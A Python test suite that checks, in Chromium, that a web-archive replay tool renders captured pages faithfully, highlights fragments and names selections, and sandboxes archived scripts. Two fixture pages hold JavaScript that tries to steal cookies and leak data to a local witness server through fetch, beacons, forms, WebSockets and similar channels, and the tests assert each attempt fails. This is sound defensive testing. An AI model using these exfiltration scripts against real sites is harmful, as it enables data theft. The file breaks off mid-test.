"""Replay in Chromium: a captured page shown as it was, from the replay origin alone, and unable to reach out.

A small site is served on 127.0.0.1 and captured (``pdi.capture``) into an
archive; the site is stopped before the capture is opened, so whatever the
replayed page shows came from the replay origin. A resolver and its replay
origin run on two ports of one uvicorn server, as ``pdi serve`` runs them.
"""

from __future__ import annotations

import base64
import io
import json
import threading
import time
import urllib.parse
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

import pytest
from PIL import Image, ImageChops
from server_helpers import CAPTURED_PAGE, CAPTURED_URL, captured_aggregate, with_replay

from chromium_helpers import clipboard_text, navigate_and_wait_for_load, new_tab
from pdi.archive import Archive, Generic
from pdi.capture import capture
from pdi.capture.browser import Pipe, devtools
from pdi.capture.deposit import deposit_capture

SERIES = "web.example.us"
SHOTS = Path(__file__).resolve().parents[1] / "artifacts" / "screenshots"
VIEWPORT = {"width": 800, "height": 600, "deviceScaleFactor": 1, "mobile": False}


def _png() -> bytes:
    image = Image.new("RGB", (60, 40))
    image.putdata([(4 * x, 6 * y, 200) for y in range(40) for x in range(60)])
    out = io.BytesIO()
    image.save(out, format="PNG")
    return out.getvalue()


PAGE = (
    b'<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Site</title>'
    b'<link rel="stylesheet" href="style.css"></head>\n<body><h1>A small site</h1>'
    b'<p class="lead">It has a style sheet and an image.</p><p><img src="img/sun.png" alt="sun" width="60" height="40">'
    b"</p><ul><li>one</li><li>two</li></ul></body></html>\n"
)
STYLE = b"body{background:#fff6e0;margin:20px;font:16px/1.4 serif} h1{color:#b00000} .lead{border:2px solid #080;padding:4px}\n"

#: Its script tries to read cookies, the framing page and the network, and writes what happened into #out.
HOSTILE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Hostile</title></head><body><pre id="out"></pre>
<script>
const results = {};
function say(key, value) {
  results[key] = value;
  document.getElementById("out").textContent = JSON.stringify(results);
}
try { say("cookie", "read:" + document.cookie); } catch (e) { say("cookie", "error:" + e.name); }
try { say("parent", "read:" + window.parent.document.cookie); } catch (e) { say("parent", "error:" + e.name); }
try { say("top", "read:" + window.top.location.href); } catch (e) { say("top", "error:" + e.name); }
fetch("WITNESS/leak?c=" + encodeURIComponent(String(results.cookie))).then(
  (r) => say("network", "status:" + r.status), (e) => say("network", "error:" + e.name));
fetch("RESOLVER/api/series", {credentials: "include"}).then(
  (r) => r.text().then((t) => say("resolver", "read:" + t)), (e) => say("resolver", "error:" + e.name));
new Image().src = "WITNESS/pixel.png";
</script></body></html>
"""

#: A tall page: the element fragment's target lies far below the first screen.
TALL = (
    "<!DOCTYPE html>\n<html><body>"
    + "".join(f"<p>paragraph {i}</p>" for i in range(80))
    + '<p id="far">the far paragraph</p>'
    + "".join(f"<p>after {i}</p>" for i in range(40))
    + "</body></html>\n"
).encode()


class Site(BaseHTTPRequestHandler):
    """The small site: its pages, and every request it was asked (``asked``)."""

    files: ClassVar[dict[str, tuple[str, bytes]]] = {}
    asked: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        type(self).asked.append(self.path)
        found = self.files.get(self.path.split("?", 1)[0])
        if found is None:
            self.send_error(404)
            return
        self.send_response(200)
        self.send_header("Content-Type", found[0])
        self.send_header("Content-Length", str(len(found[1])))
        self.end_headers()
        self.wfile.write(found[1])

    def log_message(self, format: str, *args: Any) -> None:
        pass


@contextmanager
def _site(files: dict[str, tuple[str, bytes]]) -> Iterator[tuple[str, list[str]]]:
    """A site serving ``files`` on 127.0.0.1: its URL and the list of paths asked of it."""
    handler = type("Handler", (Site,), {"files": files, "asked": []})
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    httpd.daemon_threads = True
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}", handler.asked
    finally:
        httpd.shutdown()
        httpd.server_close()
        thread.join()


def _open(pipe: Pipe, url: str, setup: Any = None) -> tuple[str, list[dict[str, Any]]]:
    """Open ``url`` in a new tab of the viewport's size; its session and every event until its load event.

    A frame Chromium puts in a process of its own (a sandboxed frame of an
    opaque origin) is attached to as it starts: its events are the tab's too.
    """
    deadline = time.monotonic() + 60
    session = new_tab(pipe, "Page", "Network", "Runtime", deadline=deadline)
    pipe.call("Emulation.setDeviceMetricsOverride", VIEWPORT, session, deadline)
    pipe.call("Target.setAutoAttach", {"autoAttach": True, "waitForDebuggerOnStart": True, "flatten": True},
              session, deadline)
    if setup is not None:
        setup(session, deadline)
    events: list[dict[str, Any]] = []
    sessions = {session}

    def seen(message: dict[str, Any]) -> None:
        if message.get("sessionId") not in sessions:
            return  # another tab's (the live page's favicon, asked after its load)
        events.append(message)
        if message.get("method") == "Target.attachedToTarget":
            child = message["params"]["sessionId"]
            sessions.add(child)
            _children[session] = child
            for domain in ("Network", "Runtime"):
                pipe.call(f"{domain}.enable", None, child, deadline)
            pipe.call("Runtime.runIfWaitingForDebugger", None, child, deadline)

    navigate_and_wait_for_load(pipe, session, url, deadline, seen)
    return session, events


#: The session of a tab's frame that runs in a process of its own, by the tab's session.
_children: dict[str, str] = {}


def _in_frame(pipe: Pipe, session: str, expression: str) -> Any:
    """``expression``'s value in the replayed page (the frame), read from an isolated world of it."""
    deadline = time.monotonic() + 30
    params: dict[str, Any] = {"expression": expression, "returnByValue": True, "awaitPromise": True}
    child = _children.get(session)
    if child is not None:  # the frame is a target of its own: its own main world
        answer = pipe.call("Runtime.evaluate", params, child, deadline)
        return answer["result"].get("value")
    tree = pipe.call("Page.getFrameTree", None, session, deadline)["frameTree"]
    (frame,) = tree["childFrames"]
    world = pipe.call("Page.createIsolatedWorld", {"frameId": frame["frame"]["id"]}, session, deadline)
    answer = pipe.call("Runtime.evaluate", {**params, "contextId": world["executionContextId"]}, session, deadline)
    return answer["result"].get("value")


def _in_frame_when(pipe: Pipe, session: str, expression: str, ready: Callable[[Any], bool], seconds: float = 20) -> Any:
    """``expression``'s value in the replayed page once ``ready`` holds of it (``seconds`` at most; then its last value).

    What the browser does after the load event (scrolling to the fragment,
    painting) can come late on a loaded machine: it is waited for, not slept for.
    """
    deadline = time.monotonic() + seconds
    while True:
        value = _in_frame(pipe, session, expression)
        if ready(value) or time.monotonic() > deadline:
            return value
        time.sleep(0.05)


def _top(pipe: Pipe, session: str, expression: str) -> Any:
    answer = pipe.call("Runtime.evaluate", {"expression": expression, "returnByValue": True}, session,
                       time.monotonic() + 30)
    return answer["result"].get("value")


def _view(resolver: str, name: str) -> str:
    return f"{resolver}/view?pdi={urllib.parse.quote(name, safe='')}"


def _screenshot(pipe: Pipe, session: str, clip: dict[str, float] | None = None) -> Image.Image:
    params: dict[str, Any] = {"format": "png"}
    if clip is not None:
        params["clip"] = {**clip, "scale": 1}
    shot = pipe.call("Page.captureScreenshot", params, session, time.monotonic() + 30)
    return Image.open(io.BytesIO(base64.b64decode(shot["data"]))).convert("RGB")


def _requested(events: list[dict[str, Any]]) -> list[str]:
    return [e["params"]["request"]["url"] for e in events if e.get("method") == "Network.requestWillBeSent"]


@pytest.mark.parametrize("scripts", [False, True], ids=["scripts-off", "scripts-on"])
def test_a_captured_page_replays_from_the_replay_origin_alone_and_looks_as_it_did(tmp_path: Path, scripts: bool) -> None:
    files = {"/index.html": ("text/html; charset=utf-8", PAGE), "/style.css": ("text/css", STYLE),
             "/img/sun.png": ("image/png", _png())}
    location = str(tmp_path / "archive")
    with Archive.init(location) as archive:
        archive.add_series(SERIES)
    with devtools() as pipe:
        with _site(files) as (site, asked):
            got = capture(site + "/index.html", allow_private=True)
            with Archive.open(location) as archive:
                (name,) = deposit_capture(archive, SERIES, site + "/index.html", got.mhtml).names
            live_session, _ = _open(pipe, site + "/index.html")
            live = _screenshot(pipe, live_session)
        asked.clear()  # the site is stopped: nothing of it can load from now on
        with with_replay(location, scripts=scripts) as (resolver, replay):
            session, events = _open(pipe, _view(resolver, str(name)))
            frame_rect = json.loads(_top(pipe, session, "JSON.stringify(document.querySelector('iframe.replay')"
                                                        ".getBoundingClientRect())"))
            shown = _in_frame(pipe, session, """JSON.stringify({
                images: [...document.images].map((i) => [i.currentSrc, i.complete, i.naturalWidth]),
                heading: getComputedStyle(document.querySelector("h1")).color,
                lead: getComputedStyle(document.querySelector(".lead")).borderTopColor,
                background: getComputedStyle(document.body).backgroundColor,
                url: location.href})""")
            replayed = _screenshot(pipe, session, {"x": frame_rect["x"], "y": frame_rect["y"],
                                                   "width": frame_rect["width"], "height": frame_rect["height"]})
    facts = json.loads(shown)
    quoted = urllib.parse.quote(str(name), safe="")
    assert facts["url"] == f"{replay}/replay/{quoted}/index.html"
    assert facts["images"] == [[f"{replay}/replay/{quoted}/sun.png", True, 60]]
    assert facts["heading"] == "rgb(176, 0, 0)"  # the style sheet, from the replay origin
    assert facts["lead"] == "rgb(0, 136, 0)"
    assert facts["background"] == "rgb(255, 246, 224)"
    requested = _requested(events)
    assert requested and all(url.startswith((resolver + "/", replay + "/")) for url in requested), requested
    assert f"{replay}/replay/{quoted}/style.css" in requested
    assert asked == []
    # the same pixels as the live page, within a small tolerance (the frame is as wide as the viewport)
    width, height = int(frame_rect["width"]), int(frame_rect["height"])
    assert width == VIEWPORT["width"] and height > 300
    difference = ImageChops.difference(live.crop((0, 0, width, height)), replayed.crop((0, 0, width, height)))
    differing = sum(difference.convert("L").histogram()[25:])  # pixels off by more than 24 levels
    assert differing <= 0.005 * width * height, f"{differing} pixels differ"


def _hostile_capture(location: str, resolver: str, witness: str) -> str:
    page = HOSTILE.replace("WITNESS", witness).replace("RESOLVER", resolver).encode()
    with _site({"/hostile.html": ("text/html; charset=utf-8", page)}) as (site, _):
        got = capture(site + "/hostile.html", allow_private=True)
    with Archive.open(location) as archive:
        (name,) = deposit_capture(archive, SERIES, site + "/hostile.html", got.mhtml).names
    return str(name)


def _set_secret(pipe: Pipe, resolver: str) -> Any:
    def setup(session: str, deadline: float) -> None:
        cookie = {"name": "secret", "value": "s3cr3t-of-the-resolver", "url": resolver + "/"}
        assert pipe.call("Network.setCookie", cookie, session, deadline).get("success", True)
    return setup


def test_an_archived_script_cannot_reach_the_resolver_or_the_network(tmp_path: Path) -> None:
    location = str(tmp_path / "archive")
    with Archive.init(location) as archive:
        archive.add_series(SERIES)
    with _site({"/pixel.png": ("image/png", _png())}) as (witness, asked):
        with with_replay(location, scripts=True) as (resolver, replay), devtools() as pipe:
            name = _hostile_capture(location, resolver, witness)
            asked.clear()
            session, events = _open(pipe, _view(resolver, name), _set_secret(pipe, resolver))
            deadline = time.monotonic() + 20
            while True:  # the fetches settle after the load event
                out = _in_frame(pipe, session, "document.getElementById('out').textContent")
                results = json.loads(out or "{}")
                if len(results) == 5 or time.monotonic() > deadline:
                    break
                time.sleep(0.1)
            for _ in range(10):
                pipe.events.extend([m for m in [pipe.receive(time.monotonic() + 0.1)] if m is not None])
            events += pipe.events
        assert asked == []  # the witness on the network heard nothing
    assert results["cookie"] == "error:SecurityError"  # a sandboxed frame of an opaque origin has no cookie
    assert results["parent"] == "error:SecurityError"  # the resolver's page is another origin
    assert results["top"] == "error:SecurityError"
    assert results["network"] == "error:TypeError"  # connect-src 'none'
    assert results["resolver"] == "error:TypeError"
    assert "s3cr3t" not in out
    finished = {e["params"]["requestId"]: e for e in events if e.get("method") == "Network.responseReceived"}
    for answered in finished.values():
        assert answered["params"]["response"]["url"].startswith((resolver + "/", replay + "/"))


def test_archived_scripts_do_not_run_by_default(tmp_path: Path) -> None:
    location = str(tmp_path / "archive")
    with Archive.init(location) as archive:
        archive.add_series(SERIES)
    with _site({"/pixel.png": ("image/png", _png())}) as (witness, asked):
        with with_replay(location) as (resolver, _), devtools() as pipe:
            name = _hostile_capture(location, resolver, witness)
            asked.clear()
            session, _ = _open(pipe, _view(resolver, name))
            time.sleep(1)
            out = _in_frame(pipe, session, "document.getElementById('out').textContent")
            sandbox = _top(pipe, session, "document.querySelector('iframe.replay').getAttribute('sandbox')")
        assert asked == []
    assert out == ""  # the script never ran
    assert sandbox == "allow-same-origin"


#: Fragments of TALL that select its far paragraph: by start tag (html 0, body 1, the 80 paragraphs 2-81, the far
#: one 82), by id, and by the characters of its text (its octets' offset, + 1 for the bare LF after the doctype,
#: counted two in the CRLF-canonical source).
FAR = {
    "elt": "elt=82,82",
    "name": "name=far,far",
    "char": f"char={TALL.index(b'the far') + 1},{TALL.index(b'the far') + 1 + len('the far paragraph')}",
}


@pytest.mark.parametrize("scheme", list(FAR))
def test_an_html_fragment_is_highlighted_and_scrolled_into_view(tmp_path: Path, scheme: str) -> None:
    location = str(tmp_path / "archive")
    with Archive.init(location) as archive:
        archive.add_series(SERIES)
        page = str(archive.add(SERIES, TALL, format="html"))
    with with_replay(location) as (resolver, _), devtools() as pipe:
        session, _ = _open(pipe, _view(resolver, page + "#" + FAR[scheme]))
        shown = json.loads(_in_frame_when(pipe, session, """JSON.stringify((() => {
            const far = document.getElementById("far");
            const box = far.getBoundingClientRect();
            const mark = far.querySelector("pdi-mark");
            // innerText: the text as shown (a char fragment's <style> for the marks sits inside the paragraph)
            return {text: far.innerText, marked: [...document.querySelectorAll("pdi-mark")].map((m) => m.textContent).join(""),
                    top: box.top, bottom: box.bottom, height: innerHeight, scrolled: scrollY,
                    outlined: far.hasAttribute("data-pdi-passage") && getComputedStyle(far).outlineStyle === "solid",
                    background: mark && getComputedStyle(mark).backgroundColor};
        })())""", lambda v: _far_in_view(json.loads(v))))
        if scheme == "name":
            SHOTS.mkdir(parents=True, exist_ok=True)
            (SHOTS / "replay-name.png").write_bytes(base64.b64decode(
                pipe.call("Page.captureScreenshot", {"format": "png"}, session, time.monotonic() + 30)["data"]))
    assert shown["text"] == "the far paragraph"
    assert shown["marked"] == "the far paragraph"  # that text marked, and nothing else
    assert shown["outlined"] is (scheme != "char")  # an element's fragment outlines the element
    assert shown["background"] == "rgb(255, 229, 138)"
    assert shown["scrolled"] > 1000  # 80 paragraphs are above it
    # in view, and not flush with the frame's top: the outline (3 px, 2 px off the element) is seen whole
    assert shown["top"] >= 5 and shown["bottom"] <= shown["height"]

def _far_in_view(shown: dict[str, Any]) -> bool:
    return bool(shown["scrolled"] > 1000 and shown["top"] >= 5 and shown["bottom"] <= shown["height"])


#: A page to select in: a bare LF after the doctype (two characters of the CRLF-canonical text), a CR LF later.
SELECTABLE = b'<!DOCTYPE html>\n<html><body><h1>Title</h1>\r\n<p>Some <b>bold</b> text &amp; more.</p></body></html>\n'

SELECT_IN_FRAME = """(() => {
  const pieces = document.querySelectorAll("p pdi-t");  // "Some ", "bold", " text ", "&amp;", " more."
  const range = document.createRange();
  range.setStart(pieces[1].firstChild, 0);
  range.setEnd(pieces[END_PIECE].firstChild, END_OFFSET);
  const selection = document.getSelection();
  selection.removeAllRanges();
  selection.addRange(range);
  return selection.toString();
})()"""


def _named(pipe: Pipe, session: str, end_piece: int, end_offset: int) -> tuple[str, str, str]:
    expression = SELECT_IN_FRAME.replace("END_PIECE", str(end_piece)).replace("END_OFFSET", str(end_offset))
    # the status of an earlier selection must not be read as this one's: clear it first
    _top(pipe, session, "document.getElementById('select-status').textContent = ''")
    selected = _in_frame(pipe, session, expression)
    deadline = time.monotonic() + 20
    while True:
        status = _top(pipe, session, "document.getElementById('select-status').textContent")
        if status.startswith(("resolved", "not offered")) or time.monotonic() > deadline:
            break
        time.sleep(0.1)
    names = _top(pipe, session, "[document.getElementById('char-name').value, document.getElementById('elt-name').value]")
    return selected, names[0], names[1]


def test_a_selection_in_the_rendered_page_is_named_by_its_source_range_and_element(tmp_path: Path) -> None:
    location = str(tmp_path / "archive")
    with Archive.init(location) as archive:
        archive.add_series(SERIES)
        page = str(archive.add(SERIES, SELECTABLE, format="html"))
    # positions of the CRLF-canonical source: the bare LF after the doctype counts two
    bold = SELECTABLE.index(b"bold") + 1
    after_text = SELECTABLE.index(b" &amp;") + 1
    after_reference = SELECTABLE.index(b" more.") + 1
    with with_replay(location) as (resolver, _), devtools() as pipe:
        session, _ = _open(pipe, _view(resolver, page) + "&select=1")
        first = _named(pipe, session, 2, 5)
        second = _named(pipe, session, 3, 1)  # the "&" of "&amp;": the reference is taken whole
    # start tags: html 0, body 1, h1 2, p 3: the <p> holds the selection
    assert first == ("bold text", f"{page}#char={bold},{after_text}", f"{page}#elt=3,3")
    assert second == ("bold text &", f"{page}#char={bold},{after_reference}", f"{page}#elt=3,3")


#: Viewport rectangles (in the frame) of the first and the last character of WANTED in the page's text.
WANTED_CHARS = """JSON.stringify((() => {
  const nodes = [], walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  let node, text = "";
  while ((node = walker.nextNode())) { nodes.push([node, text.length]); text += node.data; }
  function box(i) {
    const [n, at] = nodes.filter(([n, at]) => at <= i && i < at + n.length)[0];
    const r = document.createRange(); r.setStart(n, i - at); r.setEnd(n, i - at + 1);
    const b = r.getBoundingClientRect(); return [b.left, b.top, b.right, b.bottom];
  }
  const at = text.indexOf(WANTED);
  return [box(at), box(at + WANTED.length - 1)];
})())"""

def _mouse(pipe: Pipe, session: str, kind: str, x: float, y: float, buttons: int) -> None:
    params = {"type": kind, "x": x, "y": y, "button": "left", "buttons": buttons, "clickCount": 1}
    pipe.call("Input.dispatchMouseEvent", params, session, time.monotonic() + 30)


def _hover_until_the_frame_sees_it(pipe: Pipe, session: str, x: float, y: float) -> None:
    """Move the mouse to ``(x, y)`` until the framed page has a ``mousemove`` there (20 s at most).

    A reader's pointer is over the page before a drag starts. A frame in a
    process of its own takes input only once Chromium can hit-test it (its
    first frames drawn): on a loaded machine a drag sent before that is lost
    (the selection stays empty), so the drag waits until the frame answers.
    """
    _in_frame(pipe, session, "document.addEventListener('mousemove', () => "
                             "{ document.documentElement.dataset.testHovered = '1'; }), true")
    deadline = time.monotonic() + 20
    while True:
        _mouse(pipe, session, "mouseMoved", x, y, 0)
        if _in_frame(pipe, session, "document.documentElement.dataset.testHovered === '1'"):
            return
        assert time.monotonic() < deadline, "the framed page never had the pointer over it"
        time.sleep(0.1)
        _mouse(pipe, session, "mouseMoved", x + 1, y, 0)  # a move, not the same place again


def _crlf_position(source: bytes, at: int) -> int:
    """The position of octet ``at`` of an ASCII ``source`` in its CRLF-canonical text (a bare LF becomes CR LF)."""
    return at + source[:at].count(b"\n") - source[:at].count(b"\r\n")


#: What is dragged over in each page: the selection, the source that holds it, the start tag (elt) holding it.
DRAGGED = {
    # "Some <b>bold</b> text &amp; more.": from "b" of "bold" to the last "t" of "text"; start tags html 0, body 1, h1 2, p 3
    "html": (SELECTABLE, "bold text", b"bold</b> text", 3),
    # the captured page's "First story: <b>rain</b> expected.": start tags html 0, head 1, title 2, link 3, body 4, h1 5, p 6
    "capture": (CAPTURED_PAGE, "story: rain", b"story: <b>rain", 6),
}


@pytest.mark.parametrize("kind", list(DRAGGED))
def test_a_drag_in_the_rendered_page_is_named_copied_and_opens_marked(tmp_path: Path, kind: str) -> None:
    # The reader's first drag on a page just opened, from inside the first character wanted to inside its last.
    # Its name counts the CRLF-canonical source (of an aggregate: of its root page): each bare LF two characters.
    source, wanted, held, element = DRAGGED[kind]
    location = str(tmp_path / "archive")
    with Archive.init(location) as archive:
        archive.add_series(SERIES)
        if kind == "html":
            page = str(archive.add(SERIES, source, format="html"))
        else:
            page = str(archive.add(SERIES, captured_aggregate(_png()), format="related", foreign_id=CAPTURED_URL))
    at = source.index(held)
    name = f"{page}#char={_crlf_position(source, at)},{_crlf_position(source, at + len(held))}"
    with with_replay(location) as (resolver, _), devtools() as pipe:
        session, _ = _open(pipe, _view(resolver, page) + "&select=1")
        deadline = time.monotonic() + 30
        pipe.call("Browser.grantPermissions", {"origin": resolver, "permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]},
                  None, deadline)
        pipe.call("Emulation.setFocusEmulationEnabled", {"enabled": True}, session, deadline)
        frame = json.loads(_top(pipe, session, "JSON.stringify(document.querySelector('iframe.replay').getBoundingClientRect())"))
        first, last = json.loads(_in_frame(pipe, session, WANTED_CHARS.replace("WANTED", json.dumps(wanted))))
        start = (frame["x"] + first[0] + 1, frame["y"] + (first[1] + first[3]) / 2)
        end = (frame["x"] + last[2] - 1, frame["y"] + (last[1] + last[3]) / 2)
        _hover_until_the_frame_sees_it(pipe, session, *start)
        _mouse(pipe, session, "mousePressed", *start, 1)
        for i in range(1, 9):
            _mouse(pipe, session, "mouseMoved", start[0] + (end[0] - start[0]) * i / 8, start[1] + (end[1] - start[1]) * i / 8, 1)
        _mouse(pipe, session, "mouseReleased", *end, 0)
        assert _in_frame(pipe, session, "document.getSelection().toString()") == wanted
        deadline = time.monotonic() + 20
        while not _top(pipe, session, "document.getElementById('select-status').textContent").startswith(("resolved", "not offered")):
            assert time.monotonic() < deadline, "the selection was not named"
            time.sleep(0.1)
        offered = _top(pipe, session, "[document.getElementById('char-name').value, document.getElementById('elt-name').value]")
        assert offered == [name, f"{page}#elt={element},{element}"]
        # its other form a browser reads, the text fragment of the words selected, offered once pdi reads it back
        # as the same characters (the element name is the whole element around them)
        while not _top(pipe, session, "document.getElementById('textfrag-name').value"):
            assert time.monotonic() < deadline, "no text fragment was offered"
            time.sleep(0.1)
        fragment = _top(pipe, session, "document.getElementById('textfrag-name').value")
        assert fragment == f"{page}#:~:text={urllib.parse.quote(wanted, safe='')}"
        with urllib.request.urlopen(f"{resolver}/api/resolve?pdi={urllib.parse.quote(fragment, safe='')}") as answer:
            assert json.loads(answer.read())["pdi"] == name
        assert _top(pipe, session, "document.querySelector('.select-tools details').open") is False
        # nothing above the frame changed height while the names appeared: the page did not move under the drag
        after = json.loads(_top(pipe, session, "JSON.stringify(document.querySelector('iframe.replay').getBoundingClientRect())"))
        assert after["y"] == frame["y"]
        SHOTS.mkdir(parents=True, exist_ok=True)
        (SHOTS / f"replay-selected-{kind}.png").write_bytes(base64.b64decode(
            pipe.call("Page.captureScreenshot", {"format": "png"}, session, time.monotonic() + 30)["data"]))
        # the copy button, clicked with the mouse, puts the name on the clipboard
        button = _top(pipe, session, "(() => { const b = document.getElementById('copy-char-name').getBoundingClientRect();"
                                     " return [b.left + b.width / 2, b.top + b.height / 2]; })()")
        _mouse(pipe, session, "mousePressed", *button, 1)
        _mouse(pipe, session, "mouseReleased", *button, 0)
        copied = clipboard_text(pipe, session)  # a fresh browser's clipboard is empty until the copy lands
        assert copied == name
        assert _top(pipe, session, "document.getElementById('open-char-name').href") == _view(resolver, copied)
        # open what was copied: the same passage is marked in the replayed page, and in view
        opened, _ = _open(pipe, _view(resolver, copied))
        marked = json.loads(_in_frame_when(pipe, opened, """JSON.stringify((() => {
            const marks = [...document.querySelectorAll("pdi-mark")];
            const box = document.getElementById("pdi-passage").getBoundingClientRect();
            return [marks.map((m) => m.textContent).join(""), box.top >= 0 && box.bottom <= innerHeight];
        })())""", lambda v: json.loads(v)[1] is True))
        assert marked == [wanted, True]
    # resolving the name gives back the source that holds exactly the selected text
    with Archive.open(location) as archive:
        resolved = archive.resolve(name)
    assert not isinstance(resolved, Generic) and resolved.fragment is not None
    assert resolved.fragment.text() == held.decode()


def test_a_selection_whose_name_does_not_give_it_back_is_not_offered(tmp_path: Path) -> None:
    location = str(tmp_path / "archive")
    with Archive.init(location) as archive:
        archive.add_series(SERIES)
        page = str(archive.add(SERIES, SELECTABLE, format="html"))
    with with_replay(location) as (resolver, _), devtools() as pipe:
        session, _ = _open(pipe, _view(resolver, page) + "&select=1")
        # the framed page's "bold" altered after it was served: the archive still says "bold"
        _in_frame(pipe, session, "document.querySelectorAll('p pdi-t')[1].firstChild.data = 'BOLD'")
        selected, char_name, _ = _named(pipe, session, 2, 5)
        status = _top(pipe, session, "document.getElementById('select-status').textContent")
        disabled = _top(pipe, session, "[document.getElementById('copy-char-name').disabled,"
                                       " document.getElementById('open-char-name').hasAttribute('href')]")
    assert selected == "BOLD text"
    assert status.startswith("not offered") and char_name == ""
    assert disabled == [True, False]  # nothing to copy or open


#: An archived page that tries every way out it can (each one's URL built when it runs: the archive's rewriting
#: never sees it). Its script marks the page (its title) and writes what each attempt did into #out; the button's
#: handler navigates the page's own frame and asks for a refresh, as a reader's click on it would.
ESCAPES = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Escapes</title></head><body>
<h1>An archived page that tries to get out</h1><pre id="out"></pre>
<a id="top-link" target="_top">top</a> <a id="blank-link" target="_blank">blank</a>
<button id="go" onclick="away()">go</button>
<script>
document.title = "scripted";
const W = "http://127.0.0.1:" + "WPORT", R = "RESOLVER";
const results = {};
function say(k, v) { results[k] = v; document.getElementById("out").textContent = JSON.stringify(results); }
function attempt(k, f) { try { const r = f(); say(k, r === undefined ? "done" : String(r)); } catch (e) { say(k, "error:" + e.name); } }
function settle(k, f) { try { f().then((v) => say(k, "done:" + v), (e) => say(k, "error:" + e.name)); } catch (e) { say(k, "error:" + e.name); } }
function form(k, action) {
  attempt(k, () => { const f = document.createElement("form"); f.method = "post"; f.action = action; f.target = "_top";
    const i = document.createElement("input"); i.name = "leak"; i.value = "1"; f.append(i); document.body.append(f); f.submit(); });
}
attempt("top", () => { top.location = W + "/top"; });
attempt("open", () => window.open(W + "/open") === null ? "null" : "opened");
attempt("open-resolver", () => window.open(R + "/api/series") === null ? "null" : "opened");
settle("fetch", () => fetch(W + "/fetch", {mode: "no-cors"}).then((r) => r.type));
settle("fetch-resolver", () => fetch(R + "/api/series", {credentials: "include"}).then((r) => r.status));
attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("GET", W + "/xhr"); x.send(); });
attempt("websocket", () => { new WebSocket("ws://127.0.0.1:" + "WPORT" + "/ws"); });
attempt("beacon", () => navigator.sendBeacon(W + "/beacon", "leak"));
attempt("image", () => { new Image().src = W + "/image"; });
attempt("links", () => {
  for (const rel of ["prefetch", "preconnect", "preload", "modulepreload", "dns-prefetch", "stylesheet", "icon"]) {
    const l = document.createElement("link"); l.rel = rel; l.href = W + "/link-" + rel; l.as = "image"; document.head.append(l);
  }
});
attempt("css", () => { const s = document.createElement("style");
  s.textContent = "@import url('" + W + "/css-import'); body{background:url('" + W + "/css-url')}"
    + " @font-face{font-family:x;src:url('" + W + "/css-font')} h1{font-family:x}";
  document.head.append(s); });
attempt("iframe", () => { const f = document.createElement("iframe"); f.src = W + "/iframe"; document.body.append(f); });
attempt("object", () => { const o = document.createElement("object"); o.data = W + "/object"; document.body.append(o); });
attempt("top-link", () => { const a = document.getElementById("top-link"); a.href = W + "/a-top"; a.click(); });
attempt("blank-link", () => { const a = document.getElementById("blank-link"); a.href = W + "/a-blank"; a.click(); });
form("form", W + "/form");
form("form-resolver", R + "/api/series");
settle("worker", () => navigator.serviceWorker.register("sw.js").then(() => "registered"));
function away() {
  const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + W + "/refresh"; document.head.append(m);
  location.href = W + "/self";
}
</script></body></html>
"""

#: Every attempt of ESCAPES: what #out says of each once its script has run.
ATTEMPTS = ("top", "open", "open-resolver", "fetch", "fetch-resolver", "xhr", "websocket", "beacon", "image", "links",
            "css", "iframe", "object", "top-link", "blank-link", "form", "form-resolver", "worker")


@contextmanager
def _witness() -> Iterator[tuple[int, list[str]]]:
    """A server on 127.0.0.1 that notes every request it is sent (a WebSocket's handshake too): its port, the notes.

    Chromium may still open a bare connection to it with no request on it (a ``<link rel=preconnect>``, a frame
    navigation refused by CSP): no CSP directive covers that yet (W3C webappsec-csp issue 282), and nothing of the
    page is sent on it. Those are not noted.
    """
    heard: list[str] = []

    class Witness(ThreadingHTTPServer):
        daemon_threads = True

    class Handler(BaseHTTPRequestHandler):
        def _note(self) -> None:
            heard.append(f"{self.command} {self.path}")
            self.send_response(204)
            self.end_headers()

        do_GET = do_POST = do_HEAD = do_OPTIONS = _note

        def log_message(self, format: str, *args: Any) -> None:
            pass

    httpd = Witness(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield httpd.server_address[1], heard
    finally:
        httpd.shutdown()
        httpd.server_close()
        thread.join()


def _page_targets(pipe: Pipe) -> dict[str, str]:
    """The browser's pages: their URLs by target id."""
    targets = pipe.call("Target.getTargets", None, None, time.monotonic() + 30)["targetInfos"]
    return {t["targetId"]: t["url"] for t in targets if t["type"] == "page"}


def _attach(pipe: Pipe, target: str) -> str:
    session: str = pipe.call("Target.attachToTarget", {"targetId": target, "flatten": True}, None,
                             time.monotonic() + 30)["sessionId"]
    return session


def _loaded(pipe: Pipe, session: str, url: str, seconds: float = 20) -> None:
    """Wait until the tab of ``session`` has loaded ``url`` (a new window's first document is about:blank)."""
    deadline = time.monotonic() + seconds
    while _top(pipe, session, "location.href + ' ' + document.readyState") != f"{url} complete":
        assert time.monotonic() < deadline, f"{url} did not load"
        time.sleep(0.1)


def _shot(pipe: Pipe, session: str, file: str) -> None:
    SHOTS.mkdir(parents=True, exist_ok=True)
    (SHOTS / file).write_bytes(base64.b64decode(
        pipe.call("Page.captureScreenshot", {"format": "png"}, session, time.monotonic() + 30)["data"]))


def test_an_archived_page_runs_scripts_only_in_the_viewers_frame_and_never_gets_out(tmp_path: Path) -> None:
    location = str(tmp_path / "archive")
    with Archive.init(location) as archive:
        archive.add_series(SERIES)
    heard: list[tuple[int, str, dict[str, str]]] = []
    with _witness() as (witness_port, witnessed), with_replay(location, scripts=True, heard=heard) as (resolver, replay):
        with Archive.open(location) as archive:
            page = ESCAPES.replace("WPORT", str(witness_port)).replace("RESOLVER", resolver).encode()
            name = str(archive.add(SERIES, page, format="html"))
        direct = f"{replay}/replay/{urllib.parse.quote(name, safe='')}/index.html"
